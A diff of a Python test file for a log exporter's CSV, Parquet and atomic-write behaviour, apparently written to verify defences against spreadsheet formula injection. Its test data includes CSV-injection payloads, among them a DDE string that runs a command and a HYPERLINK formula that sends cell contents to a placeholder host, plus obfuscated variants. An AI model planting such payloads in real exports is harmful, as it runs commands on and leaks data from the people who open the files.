@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import tracemalloc
+from collections.abc import Iterator
 from datetime import timedelta
 from decimal import Decimal
 from pathlib import Path
@@ -18,7 +19,7 @@ from pyarrow import parquet
 from hooklog.clock import utc_now
 from hooklog.records.items import record_attributes
 from hooklog_ops.errors import IndexMissingError
-from hooklog_ops.exporting import Format, columns, write
+from hooklog_ops.exporting import Format, columns, whole_file, write
 from hooklog_ops.records import Item, Period, Records
 from tests.builders import failed_fax, failed_message, fax_log, message_log, record
 from tests.fakes import NOW
@@ -57,12 +58,91 @@ def test_csv_has_one_row_per_record() -> None:
     assert row["to"] == "+14155550122"
 
 
-@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"])
-def test_a_text_is_not_a_formula_in_a_spreadsheet(text: str) -> None:
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        # OWASP, CSV Injection.
+        ("=1+1", "'=1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ('=HYPERLINK("https://a.example?"&A1)', '\'=HYPERLINK("https://a.example?"&A1)'),
+        # OWASP/www-community#401: a tab or a carriage return before the formula.
+        ("\t=1+1", "'\t'=1+1"),
+        ("\r=1+1", "'\r'=1+1"),
+        ("\n=1+1", "'\n'=1+1"),
+        ("\rtext", "'\rtext"),
+        # spree/spree#14045: blanks before it; the others are invisible, too.
+        ("  =1+1", "'  =1+1"),
+        ("\u00a0=1+1", "'\u00a0=1+1"),
+        # Asymmetric-al/core#518: a blank as wide as a character.
+        ("\u3000=1+1", "'\u3000=1+1"),
+        ("\u2009@SUM(1)", "'\u2009@SUM(1)"),
+        ("\u200b\ufeff=1+1", "'\u200b\ufeff=1+1"),
+        ("\x00=1+1", "'\x00=1+1"),
+        # Full-width and small forms, which spreadsheets take for the ASCII ones.
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\uff0b1-1", "'\uff0b1-1"),
+        ("\uff0d1+1", "'\uff0d1+1"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("\ufe661+1", "'\ufe661+1"),
+        # OWASP, CSV Injection: where another character separates cells, one begins within a text.
+        ("a;=1+1;b", "a;'=1+1;b"),
+        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
+        ("a\n=1+1", "a\n'=1+1"),
+        # productdevbook/hucre#164: quotes that a program takes away.
+        ('"=1+1"', '\'"=1+1"'),
+        # Neither formula nor anything else that a spreadsheet computes.
+        ("+12065550123", "+12065550123"),
+        ("a=b; -", "a=b;' -"),
+        ("1-1", "1-1"),
+        ("", ""),
+    ],
+)
+def test_a_text_is_not_a_formula_in_a_spreadsheet(text: str, written: str) -> None:
     """A carrier writes the error message, and a spreadsheet would evaluate it."""
     csv_text = exported(item(error_message=text), form=Format.CSV).decode()
-    (row,) = csv.DictReader(io.StringIO(csv_text))
-    assert row["error_message"] == f"'{text}"
+    (row,) = csv.DictReader(io.StringIO(csv_text, newline=""))
+    assert row.get("error_message", "") == written
+
+
+def test_a_line_break_in_a_text_begins_no_row() -> None:
+    """calcom/cal.diy#29783: a carriage return has to be quoted like a line feed."""
+    csv_text = exported(item(error_message="a\rb\nc"), form=Format.CSV).decode()
+    assert '"a\rb\nc"' in csv_text
+
+
+@pytest.mark.parametrize(
+    ("charge", "written"),
+    [
+        ("-4E-7", "-0.0000004"),
+        ("-1", "-1"),
+        ("1E+3", "1000"),
+        ("0.00415", "0.00415"),
+        ("-0.000000000000000000000000000001", "-0.000000000000000000000000000001"),
+    ],
+)
+def test_a_number_is_plain_in_a_spreadsheet(charge: str, written: str) -> None:
+    """Without a quote or an exponent, however small and negative."""
+    row = {**item(), "charge": Decimal(charge)}
+    (read,) = csv.DictReader(io.StringIO(exported(row, form=Format.CSV).decode()))
+    assert read["charge"] == written
+
+
+@pytest.mark.parametrize(
+    ("charge", "written"),
+    [
+        ("0.123456789012", "0.123456789012"),
+        ("-4E-7", "-4E-7"),
+        ("123456789012345678.0000000000000000014", "123456789012345678.000000000000000001"),
+        ("0.00000000000000000051", "1E-18"),
+    ],
+)
+def test_parquet_takes_any_decimals(charge: str, written: str) -> None:
+    """Exactly up to eighteen places, and rounded beyond."""
+    rows = exported({**item(), "charge": Decimal(charge)}, item(2), form=Format.PARQUET)
+    first, _ = parquet.read_table(io.BytesIO(rows)).to_pylist()
+    assert first["charge"] == Decimal(written)
 
 
 def test_json_lines_keep_numbers_as_numbers() -> None:
@@ -138,6 +218,40 @@ def test_an_error_leaves_the_file_unchanged(
     result = desk.hooklog("export", "--since", "1h", "--out", str(out))
     assert isinstance(result.exception, IndexMissingError)
     assert out.read_text() == "yesterday's"
+
+
+@pytest.mark.parametrize("before", [None, "yesterday's"])
+@pytest.mark.parametrize("error", [OSError(28, "No space left"), KeyboardInterrupt()])
+def test_a_file_appears_whole_or_not_at_all(
+    before: str | None, error: BaseException, tmp_path: Path
+) -> None:
+    """Nothing is left of one that could not be finished, and the file before it stays."""
+    out = tmp_path / "logs.parquet"
+    if before is not None:
+        out.write_text(before)
+
+    def interrupted() -> Iterator[Item]:
+        yield item()
+        raise error
+
+    with pytest.raises(type(error)), whole_file(out) as file:
+        write(interrupted(), Format.PARQUET, file)
+    assert [path.name for path in tmp_path.iterdir()] == ([] if before is None else [out.name])
+    assert before is None or out.read_text() == before
+
+
+def test_a_file_keeps_its_place(tmp_path: Path) -> None:
+    """A link still leads to it, and a device is written to."""
+    out, link = tmp_path / "logs.csv", tmp_path / "latest"
+    link.symlink_to(out)
+    with whole_file(link) as file:
+        file.write(b"new")
+        assert not out.exists()
+    assert out.read_bytes() == b"new"
+    assert link.is_symlink()
+    with whole_file(Path("/dev/null")) as file:
+        file.write(b"new")
+    assert Path("/dev/null").is_char_device()
 
 
 def test_parquet_needs_a_file(desk: Desk) -> None:
